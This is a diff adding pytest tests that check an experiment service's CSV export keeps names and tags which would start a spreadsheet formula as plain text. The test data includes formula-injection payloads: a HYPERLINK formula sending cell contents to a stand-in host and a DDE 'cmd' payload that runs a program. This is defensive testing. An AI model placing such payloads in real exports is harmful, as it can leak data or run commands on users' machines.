@@ -130,6 +130,42 @@ def test_queued_experiments_carry_position_and_start_running_ones_time_left(
     assert starts[1] - starts[0] == pytest.approx(timedelta(seconds=6), abs=timedelta(seconds=1))
 
 
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("name", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_csv_keeps_a_name_that_would_start_a_formula_as_text(client: TestClient, name: str) -> None:
+    _submit(client, name)
+    response = client.get("/experiments", params={"format": "csv"})
+    (row,) = csv.DictReader(io.StringIO(response.text, newline=""))
+    assert row["name"] == "'" + name
+    assert client.get("/experiments").json()["data"][0]["name"] == name  # JSON is unchanged
+
+
+def test_csv_keeps_tags_that_would_start_a_formula_as_text(client: TestClient) -> None:
+    _submit(client, "tagged", "=cmd|' /C calc'!A0", "q1")
+    _submit(client, "harmless", "q1", "x=1+1")  # a formula only at a cell's start is one
+    response = client.get("/experiments", params={"format": "csv"})
+    tags = {row["name"]: row["tags"] for row in csv.DictReader(io.StringIO(response.text))}
+    assert tags == {"tagged": "'=cmd|' /C calc'!A0 q1", "harmless": "q1 x=1+1"}
+
+
+def test_csv_leaves_negative_numbers_numbers(client: TestClient) -> None:
+    experiment_id = _submit(client, "negative")
+    record = EpochRecord(1, loss=-0.5, accuracy=0.5, val_loss=-0.25, val_accuracy=0.5, seconds=1.0)
+    _run(client, experiment_id, (record,))
+    response = client.get("/experiments", params={"format": "csv"})
+    (row,) = csv.DictReader(io.StringIO(response.text))
+    assert (row["final_loss"], row["best_val_loss"]) == ("-0.5", "-0.25")
+
+
 def test_the_202_of_a_queued_experiment_says_where_it_stands(client: TestClient) -> None:
     running = _submit(client, "running", epochs=5)
     _run(client, running, EPOCHS)  # 9 s left on the one slot
